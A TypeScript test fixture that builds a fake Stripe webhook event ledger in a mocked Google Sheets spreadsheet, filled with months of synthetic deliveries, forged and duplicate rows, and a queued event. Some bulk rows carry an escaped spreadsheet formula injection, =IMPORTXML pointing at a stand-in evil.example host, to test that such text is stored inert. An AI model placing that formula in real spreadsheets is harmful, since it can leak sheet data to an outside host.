// A ledger whose `Stripe Events` has a long history: a few real deliveries long ago (applied through doPost), a bulk of
// older rows (ignored events, duplicates, rejected forgeries, an abandoned reservation, a message that looks like a
// formula), and recent deliveries. The clock is vitest's faked Date.

import { vi } from 'vitest';
import type { CellValue } from '../../fakes/gas-sheets';
import { invoiceEvent } from '../fixtures/events';
import { createHarness, type Harness } from './harness';

export const NOW = Date.parse('2026-11-26T12:00:00Z');
export const DAY = 86_400_000;
/** When the first deliveries came in: well past any retention. */
export const LONG_AGO = NOW - 200 * DAY;

export interface HistoryOptions {
  /** Rows of bulk history, besides the real deliveries. */
  bulk: number;
  /** Of the bulk, the rows older than 100 days (the rest fall in the last 30). */
  oldBulk: number;
  logArchiveRows?: number;
}

export interface History {
  harness: Harness;
  /** Real deliveries made long ago, kept to be redelivered. */
  oldPaid: ReturnType<typeof invoiceEvent>;
  oldYen: ReturnType<typeof invoiceEvent>;
  parked: ReturnType<typeof invoiceEvent>;
  recentPaid: ReturnType<typeof invoiceEvent>;
  queued: ReturnType<typeof invoiceEvent>;
}

export function historyWorld(options: HistoryOptions): History {
  vi.useFakeTimers({ toFake: ['Date'] });
  vi.setSystemTime(LONG_AGO);
  const harness = createHarness([
    { invoiceId: 'in_old_zoe', student: 'Zoë Ångström', expected: 1250.5, currency: 'usd' },
    { invoiceId: 'in_old_kyoto', student: '山田 花子', expected: 96220, currency: 'jpy' },
    { invoiceId: 'in_recent', student: 'Ólafur Þórsson', expected: 480, currency: 'eur' },
    { invoiceId: 'in_waiting', student: 'Ана Петрова', expected: 18.785, currency: 'kwd' },
    { invoiceId: 'in_after', student: 'Nguyễn Văn An', expected: 90, currency: 'usd' },
  ]);
  if (options.logArchiveRows !== undefined) {
    harness.fakes.properties.script.set('LOG_ARCHIVE_ROWS', String(options.logArchiveRows));
  }
  const created = Math.floor(LONG_AGO / 1000);
  const oldPaid = invoiceEvent('invoice.paid', {
    id: 'evt_1OldZoe',
    invoiceId: 'in_old_zoe',
    amountDue: 125_050,
    customerName: 'Zoë Ångström',
    created,
  });
  const oldYen = invoiceEvent('invoice.paid', {
    id: 'evt_1OldKyoto',
    invoiceId: 'in_old_kyoto',
    amountDue: 96_220,
    currency: 'jpy',
    apiVersion: 'old',
    charge: 'ch_1OldKyoto',
    paymentIntent: 'pi_1OldKyoto',
    created,
  });
  // Money for an invoice no row had yet: parked as UNKNOWN_INVOICE, long ago.
  const parked = invoiceEvent('invoice.paid', {
    id: 'evt_1Parked',
    invoiceId: 'in_typed_later',
    amountDue: 64_000,
    customerName: 'Søren Kierkegaard',
    created,
  });
  for (const event of [oldPaid, oldYen, parked]) harness.post(event);

  writeBulk(harness, options);

  vi.setSystemTime(NOW - DAY);
  const recentPaid = invoiceEvent('invoice.paid', {
    id: 'evt_1Recent',
    invoiceId: 'in_recent',
    amountDue: 48_000,
    currency: 'eur',
    apiVersion: 'clover',
    created: Math.floor((NOW - DAY) / 1000),
  });
  harness.post(recentPaid);
  // Recorded while another execution held the script lock: it waits in the queue at the log's end.
  vi.setSystemTime(NOW - 10 * 60_000);
  const queued = invoiceEvent('invoice.paid', {
    id: 'evt_1Waiting',
    invoiceId: 'in_waiting',
    amountDue: 18_785,
    currency: 'kwd',
    created: Math.floor((NOW - 10 * 60_000) / 1000),
  });
  harness.fakes.lock.holdScriptLock(true);
  const answer = harness.post(queued);
  harness.fakes.lock.holdScriptLock(false);
  if (answer.result !== 'queued') throw new Error(`expected queued, got ${answer.result}`);
  vi.setSystemTime(NOW);
  harness.fakes.counters.reset();
  return { harness, oldPaid, oldYen, parked, recentPaid, queued };
}

export type Row = unknown[];

/** A row as one comparable string (times as ISO instants). */
export const text = (row: Row): string =>
  row.map((cell) => (cell instanceof Date ? cell.toISOString() : String(cell))).join('|');

/** Every archive spreadsheet's data rows, oldest first (read uncounted). */
export function archiveRows(w: History): Row[] {
  return w.harness.fakes.created().flatMap((made) => {
    const sheet = made.getSheetByName('Stripe Events');
    if (!sheet || sheet.getLastRow() < 2) return [];
    return sheet.getRange(2, 1, sheet.getLastRow() - 1, sheet.getLastColumn()).getValues();
  });
}

/** Rows written straight into the sheet (uncounted), as deliveries and syncs over months would have left them. */
function writeBulk(harness: Harness, options: HistoryOptions): void {
  const { fakes } = harness;
  const sheet = fakes.spreadsheet.getSheetByName('Stripe Events');
  if (!sheet) throw new Error('no Stripe Events sheet');
  const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0] as string[];
  const first = sheet.getLastRow() + 1;
  const block = 10_000;
  const needed = first + options.bulk + 100;
  if (sheet.getMaxRows() < needed) sheet.insertRowsAfter(sheet.getMaxRows(), needed - sheet.getMaxRows());
  const oldSpan = 100 * DAY - 30 * 60_000;
  for (let start = 0; start < options.bulk; start += block) {
    const rows: CellValue[][] = [];
    for (let i = start; i < Math.min(options.bulk, start + block); i++) {
      const at =
        i < options.oldBulk
          ? LONG_AGO + 60_000 + Math.floor((i * oldSpan) / options.oldBulk)
          : NOW -
            30 * DAY +
            Math.floor(((i - options.oldBulk) * 29 * DAY) / (options.bulk - options.oldBulk));
      rows.push(bulkRow(header, i, at));
    }
    sheet.getRange(first + start, 1, rows.length, header.length).setValues(rows as never);
  }
  fakes.properties.script.set('STRIPE_EVENTS_NEXT_ROW', String(first + options.bulk));
  // Settled as they were written, so the queue's window had passed them.
  fakes.properties.script.set('STRIPE_QUEUE', JSON.stringify({ from: first + options.bulk }));
}

function bulkRow(header: string[], i: number, at: number): CellValue[] {
  // One reservation in 25,000 was never written: its execution stopped.
  if (i % 25_000 === 4_321) return header.map(() => '');
  const id = `evt_1Q${String(i).padStart(8, '0')}bulk`;
  const forged = i % 10 === 0;
  const cells: Record<string, CellValue> = {
    'Received At': new Date(at),
    Source: i % 7 === 0 ? 'sync' : 'webhook',
    'Event ID': forged ? '' : `'${id}`,
    'Event Type': forged ? '' : `'customer.updated`,
    Verification: forged ? 'invalid' : 'valid',
    Result: forged ? 'rejected' : i % 9 === 0 ? 'duplicate' : 'ignored',
    Message:
      i % 1_000 === 3 ? `'=IMPORTXML("https://evil.example","//a") came in a customer's name` : `'logged`,
    Payload: `'{"id":"${id}","object":"event","type":"customer.updated","api_version":"2025-03-31.basil","data":{"object":{"id":"cus_${i}","name":"Renée Ø ${i}"}}}`,
  };
  return header.map((name) => cells[name] ?? '');
}
